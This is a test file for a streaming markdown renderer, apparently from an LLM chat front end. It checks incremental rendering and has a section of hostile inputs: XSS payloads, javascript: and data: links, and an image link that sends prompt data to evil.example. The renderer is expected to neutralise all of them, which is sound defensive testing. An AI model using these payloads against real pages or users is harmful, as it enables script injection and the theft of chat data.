import { describe, expect, it } from "vitest";
import { StreamingMarkdown } from "./markdown";

function whole(source: string): string {
  const markdown = new StreamingMarkdown();
  markdown.update(source, true);
  return markdown.frozen.join("");
}

const ESSAY = `# Title

Some *text* with \`code\` and [a link](https://example.org/).

- one
- two

  continued

1. first

| a | b |
|---|---|
| 1 | 2 |

\`\`\`python
def f(x):

    return x < 1
\`\`\`

Last line`;

describe("streaming markdown", () => {
  it("ends the same however the text arrived", () => {
    for (const step of [1, 3, 7, 50]) {
      const markdown = new StreamingMarkdown();
      for (let end = step; end < ESSAY.length; end += step) markdown.update(ESSAY.slice(0, end), false);
      markdown.update(ESSAY, true);
      expect(markdown.frozen.join("")).toBe(whole(ESSAY));
      expect(markdown.tail).toBe("");
    }
  });

  it("never changes a block it has frozen", () => {
    const markdown = new StreamingMarkdown();
    let before: readonly string[] = [];
    for (let end = 1; end <= ESSAY.length; end += 1) {
      markdown.update(ESSAY.slice(0, end), false);
      expect(markdown.frozen.slice(0, before.length)).toEqual(before);
      before = markdown.frozen;
    }
    expect(before.length).toBeGreaterThan(4);
  });

  it("shows an open code block before it is closed", () => {
    const markdown = new StreamingMarkdown();
    markdown.update("Look:\n\n```js\nlet a = 1;\n", false);
    expect(markdown.tail).toContain('<code class="language-js">let a = 1;');
  });
});

describe("hostile text", () => {
  it.each([
    ["<script>alert(1)</script>", /<script/],
    ["<img src=x onerror=alert(1)>", /<img/],
    ["![secret](https://evil.example/?q=prompt)", /<img/],
    ["[x](javascript:alert(1))", /javascript:/],
    ["[x](data:text/html,hi)", /data:/],
    ["[x](/api/llama-server/stop)", /href/],
    ["<style>*{display:none}</style>", /<style/],
    ['<form action="/x"><input></form>', /<form|<input/],
    ["```\"><svg/onload=alert(1)>\ncode\n```", /<svg/],
    ["a <b style=\"position:fixed\">b</b>", /<b /],
  ])("%s does nothing", (source, forbidden) => expect(whole(source)).not.toMatch(forbidden));

  it("is shown as it is", () => {
    expect(whole("Use `<div>` and <div>.")).toContain("&lt;div&gt;.");
  });

  it("opens links apart from this page", () => {
    expect(whole("<https://example.org/>")).toMatch(/target="_blank"/);
    expect(whole("<https://example.org/>")).toMatch(/rel="noopener noreferrer"/);
  });
});
